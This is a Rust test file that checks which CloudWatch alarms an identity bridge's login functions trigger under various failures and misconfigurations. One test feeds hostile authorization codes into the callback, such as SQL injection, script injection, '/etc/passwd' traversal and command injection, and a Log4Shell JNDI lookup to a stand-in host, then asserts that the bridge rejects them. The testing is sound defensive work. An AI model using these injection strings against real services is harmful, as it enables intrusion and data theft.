//! From what the functions log to the alarms that ring. What a single person can cause must not
//! ring an alarm; what affects everybody must. The functions are the real ones, and
//! [`crate::cloudwatch`] evaluates their log.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::ops::Range;

use chrono::TimeDelta;
use demo::laptop::Laptop as Running;
use digital_auth::{Clock as _, SystemClock};
use four_attributes::{FourAttributes, VerifiedAt, VerifiedPerson, VerifiedRecord};
use function_kit::metrics::{COLD_START, Count, Refused, START_DURATION, Step};
use kit::{sealing_keys, sealing_keys_json};
use local_lambda::{DirectFunction, FunctionOptions};
use login_kit::{
    Arrival, BrowserLogin, Functions, LaptopOptions, Outcome, RelyingParty, browser, functions,
    laptop_with, parameter, variables,
};
use loopback::user_agent::UserAgent;
use record_trigger::{AtTokens, Class as TriggerClass};
use relying_party::Class as BridgeClass;
use sealing::SystemRandomness;
use serde_json::{Value, json};
use service_simulator::fault::Fault;
use url::Url;

use crate::cloudformation::STACK;
use crate::cloudformation::text;
use crate::cloudwatch::{Metric, Period, matches, metric, metrics_of, ringing};
use crate::observability::{rows, watched};

const OURS: &str = "digital-auth";

/// Every metric that the functions can write, with each set of dimensions and their values.
fn measurable() -> BTreeSet<Metric> {
    let stack = ("Stack", STACK);
    let mut all = BTreeSet::new();
    let counts = Count::ALL.iter().map(|count| count.name());
    for name in counts.chain(Step::ALL.iter().map(|step| step.name())) {
        all.insert(metric(OURS, name, &[stack]));
    }
    // Amazon API Gateway writes the access log, from which this metric is counted.
    all.insert(metric(OURS, "Throttled", &[stack]));
    for package in Functions::PACKAGES {
        for name in [COLD_START, START_DURATION] {
            all.insert(metric(OURS, name, &[stack, ("Function", package)]));
        }
    }
    let bridge = BridgeClass::ALL.iter();
    let bridge = bridge.map(|class| (Refused::Failure, class.name(), class.concern()));
    // A refused record is a failure in a sign-in. It isn't a failure where tokens are made, since
    // there are tokens without it.
    let triggers = TriggerClass::ALL.iter();
    let triggers = triggers.map(|class| (Refused::Failure, class.name(), class.concern()));
    let records = TriggerClass::ALL.iter();
    let records = records.filter_map(|class| match class.at_tokens() {
        AtTokens::Refused { concern, .. } => Some((Refused::Record, class.name(), concern)),
        AtTokens::Ends | AtTokens::Never => None,
    });
    for (refused, class, concern) in bridge.chain(triggers).chain(records) {
        let name = refused.name();
        all.insert(metric(OURS, name, &[stack]));
        all.insert(metric(OURS, name, &[stack, ("Class", class)]));
        all.insert(metric(OURS, name, &[stack, ("Concern", concern.name())]));
    }
    all
}

/// The metrics of AWS for a function and for an HTTP API, as far as the alarms and the dashboard
/// use them.
///
/// <https://docs.aws.amazon.com/lambda/latest/dg/monitoring-metrics-types.html>,
/// <https://docs.aws.amazon.com/apigateway/latest/developerguide/http-api-metrics.html>
fn measured_by_aws() -> BTreeSet<Metric> {
    let mut all = BTreeSet::new();
    for function in [
        "myna-FederationFunction",
        "myna-InboundFederationFunction",
        "myna-PreTokenGenerationFunction",
        "myna-VerificationFunction",
    ] {
        for name in ["Errors", "Throttles", "Duration"] {
            all.insert(metric("AWS/Lambda", name, &[("FunctionName", function)]));
        }
    }
    for api in ["myna-ApiId", "myna-MembersApiId"] {
        for name in ["Count", "4xx", "5xx", "Latency"] {
            all.insert(metric("AWS/ApiGateway", name, &[("ApiId", api)]));
        }
    }
    all
}

#[test]
fn every_alarm_and_every_widget_is_about_something_that_is_measured() {
    let stack = watched();
    let known: BTreeSet<_> = measurable().union(&measured_by_aws()).cloned().collect();
    for (id, alarm) in stack.of_type("AWS::CloudWatch::Alarm") {
        let metrics = metrics_of(alarm);
        assert!(!metrics.is_empty(), "{id}");
        for metric in metrics {
            assert!(known.contains(&metric), "{id}: {metric:?}");
        }
    }
    let body = text(&stack.properties("Dashboard")["DashboardBody"]);
    let body: Value = serde_json::from_str(&body).unwrap();
    for widget in body["widgets"].as_array().unwrap() {
        for row in rows(widget) {
            let pairs = row[2..]
                .chunks(2)
                .map(|pair| (pair[0].as_str(), pair[1].as_str()));
            let pairs: Vec<_> = pairs.collect();
            let shown = metric(&row[0], &row[1], &pairs);
            assert!(known.contains(&shown), "{shown:?}");
        }
        let queries = widget["properties"]["metrics"].as_array().unwrap().iter();
        for search in queries.filter_map(|row| row[0].get("expression")) {
            let found = known.iter().filter(|metric| finds(&text(search), metric));
            assert!(found.count() > 0, "{search}");
        }
    }
}

/// Whether a search of a widget finds a metric. A search has the namespace and the names of the
/// dimensions in braces, then the metric's name and the stack.
fn finds(search: &str, (namespace, name, dimensions): &Metric) -> bool {
    let (_, schema) = search.split_once('{').unwrap();
    let (schema, rest) = schema.split_once('}').unwrap();
    let mut parts = schema.split(',').map(|part| part.trim_matches('"'));
    let of_namespace = parts.next() == Some(namespace);
    let wanted: BTreeSet<_> = parts.collect();
    let has: BTreeSet<_> = dimensions.keys().map(String::as_str).collect();
    of_namespace
        && wanted == has
        && rest.contains(&format!(r#"MetricName="{name}""#))
        && rest.contains(&format!(r#"Stack="{STACK}""#))
        && dimensions.get("Stack").is_some_and(|stack| stack == STACK)
}

/// Starts a laptop with the functions. These variables of the bridge's environment are changed.
async fn running(changes: &[(&str, &str)]) -> Running {
    running_with(|options| {
        let changes = changes.iter();
        let changes = changes.map(|(name, value)| ((*name).to_owned(), Some((*value).to_owned())));
        options.environment.extend(changes);
    })
    .await
}

/// Starts a laptop with changed options. The functions know the name of their stack.
async fn running_with(change: impl FnOnce(&mut LaptopOptions)) -> Running {
    laptop_with(|options| {
        let name = || variables([("STACK_NAME", Some(STACK))]);
        options.environment = name();
        options.trigger_environment = name();
        change(options);
    })
    .await
}

/// What was measured so far, and how many answers of the API had a 5xx status.
fn measured(running: &Running, statuses: &[u16]) -> Period {
    let lines = running.bridge.logs().lines();
    let period = Period::of(lines.iter().chain(&running.triggers.log_lines()));
    // The alarms are checked against the list of measurable metrics, so it has to be complete.
    let known = measurable();
    for metric in period.metrics() {
        assert!(known.contains(metric), "{metric:?}");
    }
    // Each status counts as one request. The requests before it aren't counted.
    let api = |name| metric("AWS/ApiGateway", name, &[("ApiId", "myna-ApiId")]);
    let errors = statuses.iter().filter(|status| **status >= 500);
    let period = period.and(api("5xx"), errors.map(|_| 1.0));
    period.and(api("Count"), statuses.iter().map(|_| 1.0))
}

/// The same period several times: longer than any alarm waits that depends on a quantity.
fn going_on(period: &Period) -> Vec<Period> {
    vec![period.clone(); 4]
}

fn named(alarms: &[&str]) -> BTreeSet<String> {
    alarms
        .iter()
        .map(|name| format!("{STACK}-{name}"))
        .collect()
}

/// The status of the last answer in a login whose authorization request was edited on its way to
/// the service.
async fn edited(running: &Running, edit: impl Fn(&mut Vec<(String, String)>)) -> u16 {
    let client = RelyingParty::new(running);
    let browser = browser();
    let begun = browser
        .get(&client.authorization_request().url(), "text/html")
        .await;
    let mut to_service = begun.unwrap().redirect_target().unwrap().unwrap();
    let mut query: Vec<_> = to_service.query_pairs().into_owned().collect();
    edit(&mut query);
    to_service.query_pairs_mut().clear().extend_pairs(query);
    let redirect_uri = client.redirect_uri();
    let at_client = |url: &Url| url.as_str().starts_with(&redirect_uri);
    let login = BrowserLogin::run(&browser, &to_service, "adult", None, at_client).await;
    status_at_the_end(&client, &login.end).await
}

async fn status_at_the_end(client: &RelyingParty<'_>, end: &Arrival) -> u16 {
    match end {
        Arrival::Page(page) => page.status.as_u16(),
        Arrival::At(_) => match parameter(end, "code") {
            Some(code) => client.token_request(&code).send().await.status,
            None => 302,
        },
    }
}

fn set(query: &mut [(String, String)], name: &str, change: impl Fn(&str) -> String) {
    for (known, value) in query.iter_mut().filter(|(known, _)| known == name) {
        assert!(known == name);
        *value = change(value);
    }
}

/// A person edits the request that their browser carries to the service, again and again, while
/// another person signs in. The bridge refuses it, and no alarm rings.
#[tokio::test]
async fn what_a_browser_carries_to_the_service_can_be_edited_and_calls_nobody() {
    type Edit = fn(&mut Vec<(String, String)>);
    let edits: [(&str, Edit); 4] = [
        ("scope_not_granted", |query| {
            set(query, "scope", |scope| scope.replace(" name", ""));
        }),
        // The gender may be missing anyway.
        ("scope_not_granted", |query| {
            set(query, "scope", |scope| scope.replace(" gender", ""));
        }),
        ("id_token_nonce", |query| {
            set(query, "nonce", str::to_lowercase);
        }),
        // The code challenge of RFC 7636, Appendix B.
        ("service_refused_code", |query| {
            set(query, "code_challenge", |_| {
                "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM".to_owned()
            });
        }),
    ];
    for (class, edit) in edits {
        let running = running(&[]).await;
        assert_eq!(log_in(&running, 0..1, None).await, [true]);
        let mut statuses = Vec::new();
        for _ in 0..10 {
            statuses.push(edited(&running, edit).await);
        }
        assert_eq!(login_kit::logged_failures(&running), [class; 10]);
        let period = measured(&running, &statuses);
        assert_eq!(
            ringing(&watched(), &going_on(&period)),
            named(&[]),
            "{class}"
        );
        running.stop().await;
    }
}

/// Answers that the service gives to an edited request, and that its stand-in can only give as a
/// fault.
#[tokio::test]
async fn what_the_service_makes_of_it_calls_nobody() {
    for fault in [
        // The person edited or removed `acr_values`.
        Fault::IdTokenWrongAssurance,
        Fault::IdTokenMissingAssurance,
        // The person removed `openid` from the scope.
        Fault::TokenWithoutIdToken,
        // The person removed another scope.
        Fault::TokenReducedScope,
        Fault::UserinfoMissingAddress,
        Fault::IdTokenMissingNonce,
        // A firewall in front of the service objects to the code.
        Fault::TokenInvalidRequest,
        Fault::CallbackForgedCode,
        Fault::Cancel,
        Fault::ErrorServerError,
    ] {
        let running = running(&[]).await;
        assert_eq!(log_in(&running, 0..1, None).await, [true]);
        let client = RelyingParty::new(&running);
        let mut statuses = Vec::new();
        // The bridge can't tell whose login this was.
        let times = if fault == Fault::TokenInvalidRequest {
            3
        } else {
            10
        };
        for _ in 0..times {
            let request = client.authorization_request();
            let end = client
                .sign_in(&browser(), &request, "adult", Some(fault))
                .await;
            statuses.push(status_at_the_end(&client, &end).await);
        }
        let class = fault.class().unwrap();
        assert_eq!(login_kit::logged_failures(&running), vec![class; times]);
        let period = measured(&running, &statuses);
        assert_eq!(
            ringing(&watched(), &going_on(&period)),
            named(&[]),
            "{fault}"
        );
        running.stop().await;
    }
}

/// The bridge doesn't send to the service what a firewall could take for an attack: a code may only
/// have the characters of RFC 6749 §A.11, and of those only the ones that the service's own codes
/// have.
#[tokio::test]
async fn a_code_of_odd_characters_is_carried_nowhere_and_calls_nobody() {
    let running = running(&[]).await;
    let client = RelyingParty::new(&running);
    let codes = [
        "' OR 1=1--",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "a;cat /etc/passwd",
        "a\r\nX: y",
        "\u{0}",
        "%00",
        "区",
        "a b",
    ];
    let mut statuses = Vec::new();
    for code in codes {
        let browser = browser();
        let request = client.authorization_request();
        let mut callback = client.to_callback(&browser, &request).await;
        let mut query: Vec<_> = callback.query_pairs().into_owned().collect();
        set(&mut query, "code", |_| code.to_owned());
        callback.query_pairs_mut().clear().extend_pairs(query);
        let end = client.from_callback(&browser, &callback).await;
        assert_eq!(parameter(&end, "code"), None, "{code:?}");
        statuses.push(status_at_the_end(&client, &end).await);
    }
    let malformed = vec!["malformed_callback"; codes.len()];
    assert_eq!(login_kit::logged_failures(&running), malformed);
    assert_eq!(running.service.count(service_simulator::Endpoint::Token), 0);
    let period = measured(&running, &statuses);
    assert_eq!(ringing(&watched(), &going_on(&period)), named(&[]));
    running.stop().await;
}

/// A stack can wait for weeks for its client ID, and its login page is reachable meanwhile.
#[tokio::test]
async fn a_login_before_there_is_a_client_id_calls_nobody() {
    let running = running(&[("SERVICE_CLIENT_ID", "")]).await;
    let client = RelyingParty::new(&running);
    let mut statuses = Vec::new();
    for _ in 0..20 {
        let request = client.authorization_request();
        let end = client.sign_in(&browser(), &request, "adult", None).await;
        statuses.push(status_at_the_end(&client, &end).await);
    }
    assert_eq!(login_kit::logged_failures(&running), ["not_connected"; 20]);
    let period = measured(&running, &statuses);
    assert_eq!(ringing(&watched(), &going_on(&period)), named(&[]));
    running.stop().await;
}

/// Signs one person in several times through Amazon Cognito. Gives whether each login succeeded.
async fn log_in(running: &Running, times: Range<usize>, fault: Option<Fault>) -> Vec<bool> {
    log_in_as(running, times.map(|_| "adult"), fault).await
}

/// Signs these people in.
async fn log_in_as(
    running: &Running,
    people: impl IntoIterator<Item = &str>,
    fault: Option<Fault>,
) -> Vec<bool> {
    let mut succeeded = Vec::new();
    for person in people {
        let outcome = running.login(&browser(), person, fault).await.unwrap();
        succeeded.push(matches!(outcome, Outcome::SignedIn(_)));
    }
    succeeded
}

/// Five people with a card each.
const FIVE: [&str; 5] = ["adult", "longest", "leap-day", "no-gender", "yokohama"];

/// If `AcceptedAcr` is wrong, or if the service doesn't say what the configuration requires, nobody
/// can sign in. Then an alarm rings. It doesn't ring if a single person is refused for the same
/// reason: they can edit the request to the service again and again, even where nobody else signs
/// in.
#[tokio::test]
async fn what_refuses_everybody_rings_and_what_refuses_one_person_does_not() {
    let logins = &["logins-none", "logins-refused"][..];
    let service = &["logins-none", "logins-refused", "service-failures"][..];
    for (setting, fault, alarms) in [
        (("ACCEPTED_ACR", "aal9"), None, logins),
        (
            ("GRANTED_SCOPE", "required"),
            Some(Fault::TokenWithoutScope),
            service,
        ),
        (
            ("REQUIRE_AUTH_TIME", "yes"),
            Some(Fault::IdTokenMissingAuthenticationTime),
            service,
        ),
    ] {
        let wrong = running(&[setting]).await;
        assert_eq!(log_in_as(&wrong, FIVE, fault).await, [false; 5]);
        let period = measured(&wrong, &[]);
        let rings = ringing(&watched(), &going_on(&period));
        assert_eq!(rings, named(alarms));
        wrong.stop().await;
    }

    for others in [0, 1] {
        let right = running(&[]).await;
        assert_eq!(log_in(&right, 0..others, None).await, vec![true; others]);
        let refused = log_in(&right, 0..12, Some(Fault::IdTokenWrongAssurance)).await;
        assert_eq!(refused, [false; 12]);
        let period = measured(&right, &[]);
        assert_eq!(
            ringing(&watched(), &going_on(&period)),
            named(&[]),
            "{others}"
        );
        right.stop().await;
    }
}

/// A person counts once in a period, but in each process separately. Many requests at once reach
/// many processes, and some may be turned away while they wait. So no alarm rings before this goes
/// on for some time. One burst can lie on the boundary of two periods.
#[tokio::test]
async fn what_one_person_sends_at_once_calls_nobody_whatever_it_is() {
    let stack = watched();
    let running = running(&[]).await;
    // A login that fails at `/token`, one that fails in the callback, and one for which the service
    // has no capacity.
    for fault in [
        Fault::IdTokenWrongAssurance,
        Fault::ErrorServerError,
        Fault::Token500,
    ] {
        assert_eq!(log_in(&running, 0..1, Some(fault)).await, [false]);
    }
    // A login that doesn't begin.
    let client = RelyingParty::new(&running);
    let wrong = client.authorization_request().with("scope", "openid wrong");
    browser().get(&wrong.url(), "text/html").await.unwrap();
    let classes = [
        "assurance_not_accepted",
        "service_server_error",
        "service_failed",
        "invalid_scope",
    ];
    assert_eq!(login_kit::logged_failures(&running), classes);
    let trigger = TokenTrigger::new(KEY, ISSUER);
    assert!(!trigger.refresh("nonsense", 0..1).await);
    let burst = measured(&running, &[500]).and_all(&trigger.measured());
    running.stop().await;
    let throttled = metric(OURS, "Throttled", &[("Stack", STACK)]);
    let throttles = measured_by_aws();
    let throttles = throttles.iter().filter(|(_, name, _)| name == "Throttles");
    let burst = throttles.fold(burst.and(throttled, [1.0]), |burst, throttled| {
        burst.and(throttled.clone(), [1.0])
    });

    // A hundred times, in a hundred processes.
    let burst = burst.times(100);
    let nothing = Period::default();
    let rings = |periods: &[&Period]| {
        let periods: Vec<_> = periods.iter().copied().cloned().collect();
        ringing(&stack, &periods)
    };
    for at_once in [
        &[&burst][..],
        &[&burst, &burst],
        &[&burst, &burst, &nothing, &nothing],
    ] {
        assert_eq!(rings(at_once), named(&[]));
    }
    let everything = named(&[
        "service-failures",
        "service-unreachable",
        "client-failures",
        "unproven-failures",
        "logins-refused",
        "logins-none",
        "records-refused",
        "throttled",
        "federation-throttles",
        "inbound-federation-throttles",
        "pre-token-generation-throttles",
        "verification-throttles",
        "api-errors",
    ]);
    assert_eq!(rings(&[&burst, &nothing, &burst, &burst]), everything);
}

/// The app asks for a new authentication in each login, and the service doesn't say when it was. If
/// a single person has an old authentication, no alarm rings.
#[tokio::test]
async fn new_authentications_that_the_service_never_shows_ring() {
    let everybody = &["logins-none", "logins-refused"][..];
    let (all, one) = (FIVE, ["adult"; 6]);
    for (finished, refused, rings) in [(0, &all[..], everybody), (2, &one[..], &[])] {
        let running = running(&[]).await;
        let client = RelyingParty::new(&running);
        let mut statuses = Vec::new();
        for _ in 0..finished {
            let request = client.authorization_request();
            let end = client.sign_in(&browser(), &request, "adult", None).await;
            statuses.push(status_at_the_end(&client, &end).await);
        }
        for person in refused {
            let request = client.authorization_request().with("prompt", "login");
            let fault = Some(Fault::IdTokenMissingAuthenticationTime);
            let end = client.sign_in(&browser(), &request, person, fault).await;
            statuses.push(status_at_the_end(&client, &end).await);
        }
        let class = vec!["authentication_too_old"; refused.len()];
        assert_eq!(login_kit::logged_failures(&running), class);
        // This client isn't Amazon Cognito, so the trigger isn't invoked.
        let invoked = metric(OURS, "InboundFederationInvoked", &[("Stack", STACK)]);
        let period = measured(&running, &statuses).and(invoked, [1.0]);
        assert_eq!(ringing(&watched(), &going_on(&period)), named(rings));
        running.stop().await;
    }
}

/// People with a browser and an address each.
fn people(count: u8) -> impl Iterator<Item = UserAgent> {
    let addresses = (0..count).map(|index| Ipv4Addr::new(127, 0, 1, index + 1));
    addresses.map(|address| UserAgent::at("ja", Some(address)).unwrap())
}

/// Everybody is refused before Amazon Cognito requests tokens: the service doesn't fit a setting,
/// or no longer knows the client ID.
#[tokio::test]
async fn logins_that_all_end_on_the_way_back_ring() {
    for (required, fault, class) in [
        (true, Some(Fault::CallbackWithoutIssuer), "issuer_mismatch"),
        (
            false,
            Some(Fault::ErrorUnauthorizedClient),
            "service_unauthorized_client",
        ),
        (
            false,
            Some(Fault::ErrorInvalidScope),
            "service_invalid_scope",
        ),
    ] {
        let issuer = if required { "required" } else { "optional" };
        let running = running(&[("CALLBACK_ISS", issuer)]).await;
        for person in people(5) {
            let outcome = running.login(&person, "adult", fault).await.unwrap();
            assert!(!matches!(outcome, Outcome::SignedIn(_)));
        }
        assert_eq!(login_kit::logged_failures(&running), [class; 5]);
        let rings = ringing(&watched(), &going_on(&measured(&running, &[])));
        let expected = named(&["logins-none", "logins-refused"]);
        assert_eq!(rings, expected, "{class}");
        running.stop().await;
    }
}

/// Everybody is refused before a login begins: a setting of the user pool differs from the
/// bridge's. A person who sends such requests by hand counts as one place.
#[tokio::test]
async fn logins_that_all_end_before_they_begin_ring() {
    type Change = fn(&mut LaptopOptions);
    let changes: [(Change, &str); 3] = [
        (
            |options| {
                options.cognito = |cognito| cognito.provider.authorize_scopes = "openid".to_owned();
            },
            "invalid_scope",
        ),
        (
            |options| {
                options.cognito = |cognito| cognito.provider.client_id = "another".to_owned();
            },
            "unknown_client",
        ),
        (
            |options| {
                let old = "https://old.auth.ap-northeast-1.amazoncognito.com/oauth2/idpresponse";
                let old = variables([("REDIRECT_URIS", Some(old))]);
                options.environment.extend(old);
            },
            "redirect_uri_mismatch",
        ),
    ];
    for (change, class) in changes {
        let running = running_with(change).await;
        let mut refused = 0;
        let mut refuse = async |browser: &UserAgent| {
            let outcome = running.login(browser, "adult", None).await.unwrap();
            assert!(!matches!(outcome, Outcome::SignedIn(_)));
            refused += 1;
            assert_eq!(login_kit::logged_failures(&running), vec![class; refused]);
            ringing(&watched(), &going_on(&measured(&running, &[])))
        };
        let one = browser();
        for _ in 0..12 {
            assert_eq!(refuse(&one).await, named(&[]), "{class}");
        }
        let mut rings = Vec::new();
        for person in people(4) {
            rings.push(refuse(&person).await);
        }
        let last = rings.pop().unwrap();
        let of_hours = named(&["logins-refused"]);
        assert_eq!(rings, vec![of_hours; 3], "{class}");
        assert_eq!(last, named(&["logins-none", "logins-refused"]), "{class}");
        running.stop().await;
    }
}

/// A person can begin logins and write the callback by hand, without a card. However often one
/// person does this, no alarm rings, even if nobody else signs in for days.
#[tokio::test]
async fn ends_of_logins_that_one_person_writes_by_hand_do_not_ring() {
    for (others, written) in [(2, 40), (0, 40)] {
        let running = running(&[]).await;
        assert_eq!(log_in(&running, 0..others, None).await, vec![true; others]);
        let client = RelyingParty::new(&running);
        for _ in 0..written {
            let browser = browser();
            let request = client.authorization_request();
            let mut callback = client.to_callback(&browser, &request).await;
            let query: Vec<_> = callback.query_pairs().into_owned().collect();
            let state = query.iter().find(|(name, _)| name == "state").unwrap();
            let error = ("error".to_owned(), "server_error".to_owned());
            let written = [state.clone(), error];
            callback.query_pairs_mut().clear().extend_pairs(written);
            let end = client.from_callback(&browser, &callback).await;
            assert_eq!(parameter(&end, "error").as_deref(), Some("server_error"));
        }
        let failures = vec!["service_server_error"; written];
        assert_eq!(login_kit::logged_failures(&running), failures);
        let period = measured(&running, &[]);
        assert_eq!(
            ringing(&watched(), &going_on(&period)),
            named(&[]),
            "{others}"
        );
        running.stop().await;
    }
}

/// Where few people sign in, it takes days to see that nobody succeeds. A single success keeps the
/// alarm silent.
#[tokio::test]
async fn days_on_which_nobody_gets_in_ring_where_logins_are_few() {
    let stack = watched();
    let wrong = running(&[("ACCEPTED_ACR", "aal9")]).await;
    let none = named(&[]);
    let of_hours = named(&["logins-refused"]);
    for (person, expected) in FIVE.into_iter().zip([
        none.clone(),
        of_hours.clone(),
        of_hours.clone(),
        of_hours,
        named(&["logins-none", "logins-refused"]),
    ]) {
        assert_eq!(log_in_as(&wrong, [person], None).await, [false]);
        let day = measured(&wrong, &[]);
        let twice = [day.clone(), day.clone()];
        assert_eq!(ringing(&stack, &twice), none);
        assert_eq!(ringing(&stack, &going_on(&day)), expected, "{person}");
    }
    wrong.stop().await;

    let right = running(&[]).await;
    let four = FIVE.into_iter().skip(1);
    let refused = log_in_as(&right, four, Some(Fault::IdTokenWrongAssurance)).await;
    assert_eq!(refused, [false; 4]);
    assert_eq!(log_in(&right, 0..1, None).await, [true]);
    let day = measured(&right, &[]);
    assert_eq!(ringing(&stack, &going_on(&day)), none);
    right.stop().await;
}

/// Anybody can send requests to `/token` that look like a failing client. If Amazon Cognito has a
/// wrong client secret, nobody can sign in, and the only reliable sign is that logins begin and
/// don't finish. Each place counts once in a period, since anybody can begin any number of logins.
#[tokio::test]
async fn logins_that_begin_and_never_finish_ring() {
    let secrets = json!({ "current": "a-secret-that-amazon-cognito-does-not-have" });
    let running = running(&[("CLIENT_SECRETS", &secrets.to_string())]).await;
    let rings = || ringing(&watched(), &going_on(&measured(&running, &[])));
    let refuse = async |person: &UserAgent| {
        let outcome = running.login(person, "adult", None).await.unwrap();
        assert!(!matches!(outcome, Outcome::SignedIn(_)));
    };
    // From one place, and then from others: the alarms ring at ten places in twenty minutes, or
    // twenty in a day.
    let (here, none) = (browser(), named(&[]));
    for _ in 0..21 {
        refuse(&here).await;
    }
    assert_eq!(rings(), none);
    for (index, person) in people(19).enumerate() {
        refuse(&person).await;
        let expected = match index {
            ..8 => none.clone(),
            8..18 => named(&["logins-refused"]),
            _ => named(&["logins-none", "logins-refused"]),
        };
        assert_eq!(rings(), expected, "{index}");
    }
    let failures = ["client_authentication_failed"; 40];
    assert_eq!(login_kit::logged_failures(&running), failures);
    // A single success keeps the alarms silent: the other people began a login and left.
    let finished = metric(OURS, "LoginFinished", &[("Stack", STACK)]);
    let better = measured(&running, &[]).and(finished, [1.0]);
    assert_eq!(ringing(&watched(), &going_on(&better)), none);
    running.stop().await;
}

/// Where many sign in, a few failures are noise, and a few successes don't hide an outage.
#[test]
fn where_there_are_many_it_goes_by_the_share() {
    let stack = watched();
    let api = |name| metric("AWS/ApiGateway", name, &[("ApiId", "myna-ApiId")]);
    let ours = |name| metric(OURS, name, &[("Stack", STACK)]);
    let going_on = |period: Period| ringing(&stack, &going_on(&period));
    for (errors, rings) in [(1, &[][..]), (99, &[]), (100, &["api-errors"])] {
        let period = Period::default().and(api("Count"), vec![1.0; 1_000]);
        let period = period.and(api("5xx"), vec![1.0; errors]);
        assert_eq!(going_on(period), named(rings), "{errors}");
    }
    for (finished, rings) in [(1, &["logins-refused"][..]), (16, &[][..]), (300, &[])] {
        let period = Period::default().and(ours("LoginStarted"), vec![1.0; 320]);
        let period = period.and(ours("LoginFinished"), vec![1.0; finished]);
        let invoked = ["InboundFederationInvoked", "PreTokenGenerationInvoked"];
        let period = invoked
            .iter()
            .fold(period, |period, name| period.and(ours(name), [1.0]));
        assert_eq!(going_on(period), named(rings), "{finished}");
    }
}

/// A few members who try a second account, fail, or are interrupted are noise. Many are told of,
/// once it goes on.
#[test]
fn verifications_that_go_wrong_ring_once_there_are_many() {
    let stack = watched();
    let ours = |name| metric(OURS, name, &[("Stack", STACK)]);
    let (second, expired) = (ours("SecondAccountRefused"), ours("ExpiredPassSettled"));
    let completed = ours("VerificationCompleted");
    let period = |succeeded: usize, failed: usize, seconds: usize, passes: usize| {
        let results = [vec![1.0; succeeded], vec![0.0; failed]].concat();
        Period::default()
            .and(completed.clone(), results)
            .and(second.clone(), vec![1.0; seconds])
            .and(expired.clone(), vec![1.0; passes])
    };
    for (period, rings) in [
        (period(5, 0, 19, 4), &[][..]),
        (period(5, 0, 20, 0), &["second-accounts"]),
        (period(5, 0, 0, 5), &["expired-passes"]),
        // Few members, some of whom fail in several processes.
        (period(0, 19, 0, 0), &[]),
        (period(0, 20, 0, 0), &["verifications-failed"]),
        (period(19, 81, 0, 0), &["verifications-failed"]),
        (period(20, 80, 0, 0), &[]),
    ] {
        assert_eq!(ringing(&stack, &going_on(&period)), named(rings));
        // A burst lies in two periods at most.
        let burst = [period.clone(), period, Period::default()];
        assert_eq!(ringing(&stack, &burst), named(&[]));
    }
}

/// The trigger is missing from the user pool and everything else works, or it is there and doesn't
/// start.
#[tokio::test]
async fn logins_that_finish_without_the_trigger_ring() {
    type Change = fn(&mut LaptopOptions);
    let changes: [(Change, bool); 2] = [
        (
            |options| {
                options.cognito = |cognito| cognito.lambda_config.inbound_federation = None;
            },
            true,
        ),
        (
            |options| {
                let wrong = variables([("RECORD_KEYS", Some("no keys"))]);
                options.trigger_environment.extend(wrong);
            },
            false,
        ),
    ];
    let stack = watched();
    for (change, signs_in) in changes {
        let running = running_with(change).await;
        assert_eq!(log_in(&running, 0..1, None).await, [signs_in]);
        let gone = measured(&running, &[]);
        running.stop().await;
        let rings = named(&["inbound-federation-gone"]);
        assert_eq!(ringing(&stack, &[gone.clone(), gone.clone()]), rings);
        // Without logins, nothing is wrong. With few logins, the second one shows it.
        let silence = Period::default();
        let mut few = vec![silence.clone(); 24];
        few[3] = gone.clone();
        few[20] = gone.clone();
        assert_eq!(ringing(&stack, &few), rings);
        assert_eq!(ringing(&stack, &[gone, silence.clone()]), named(&[]));
        assert_eq!(ringing(&stack, &[silence.clone(), silence]), named(&[]));
    }
    let alarm = stack.properties("InboundFederationGoneAlarm");
    let description = text(&alarm["AlarmDescription"]);
    for cause in [
        "LambdaConfig",
        "始まらない",
        "start",
        "同時実行数",
        "concurrency",
    ] {
        assert!(description.contains(cause), "{cause}");
    }
}

/// The trigger that makes the claims is missing from the user pool. Everybody signs in, but no app
/// gets a claim.
#[tokio::test]
async fn logins_whose_tokens_are_made_without_the_trigger_ring() {
    let stack = watched();
    let running = running_with(|options| {
        options.cognito = |cognito| cognito.lambda_config.pre_token_generation = None;
    })
    .await;
    assert_eq!(log_in(&running, 0..1, None).await, [true]);
    let gone = measured(&running, &[]);
    running.stop().await;
    let mut day = vec![Period::default(); 24];
    let hours = [2, 9, 10, 20];
    for hour in hours {
        assert_eq!(ringing(&stack, &day), named(&[]));
        day[hour] = gone.clone();
    }
    assert_eq!(ringing(&stack, &day), named(&["pre-token-generation-gone"]));
    // A single app that got its tokens in one of those hours keeps the alarm silent.
    let invoked = metric(OURS, "PreTokenGenerationInvoked", &[("Stack", STACK)]);
    day[9] = gone.and(invoked, [1.0]);
    assert_eq!(ringing(&stack, &day), named(&[]));
}

/// The trigger logs some seconds after the bridge, possibly in the next period. Where few people
/// sign in, this happens by chance about once a day.
#[tokio::test]
async fn logins_at_the_end_of_a_period_do_not_ring() {
    let running = running_with(|_| {}).await;
    assert_eq!(log_in(&running, 0..1, None).await, [true]);
    let finished = Period::of(&running.bridge.logs().lines());
    let invoked = Period::of(&running.triggers.log_lines());
    running.stop().await;
    let both = {
        let metric = metric(OURS, "InboundFederationInvoked", &[("Stack", STACK)]);
        finished.clone().and(metric, [1.0])
    };
    let silence = Period::default();
    for periods in [
        &[&finished, &invoked, &silence, &both][..],
        &[&finished, &both, &both, &invoked],
        &[&both, &both, &finished],
    ] {
        let periods: Vec<_> = periods.iter().copied().cloned().collect();
        for now in 1..=periods.len() {
            assert_eq!(ringing(&watched(), &periods[..now]), named(&[]));
        }
    }
}

/// The numbers of two record keys.
const KEY: u8 = 1;
const OTHER_KEY: u8 = 2;
const ISSUER: &str = "https://service.example/realms/main";
const SUBJECT: &str = "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed";

/// A valid record.
fn record() -> String {
    let record = VerifiedRecord {
        provider_name: "MynaApp".to_owned(),
        person: VerifiedPerson {
            issuer: ISSUER.to_owned(),
            subject: SUBJECT.to_owned(),
            attributes: FourAttributes {
                birth_date: Some("19850315".parse().unwrap()),
                ..FourAttributes::default()
            },
            verified_at: VerifiedAt::Authentication(SystemClock.now() - TimeDelta::minutes(5)),
            acr: None,
        },
    };
    record
        .seal(&sealing_keys(&[KEY]), &SystemRandomness)
        .unwrap()
}

/// The identity to which the records belong.
const IDENTITY: &str =
    r#"[{"userId":"1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed","providerName":"MynaApp"}]"#;

/// The trigger that makes tokens, with a record key and an issuer.
